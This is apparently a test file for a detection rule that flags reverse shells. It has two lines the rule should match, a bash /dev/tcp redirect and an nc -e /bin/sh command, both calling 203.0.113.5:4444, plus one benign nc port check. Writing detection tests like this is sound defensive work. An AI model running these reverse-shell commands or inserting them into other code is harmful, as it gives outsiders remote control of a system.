# ruleid: shell.reverse-shell
bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
# ruleid: shell.reverse-shell
nc -e /bin/sh 203.0.113.5 4444
# ok: shell.reverse-shell
nc -zv example.com 443
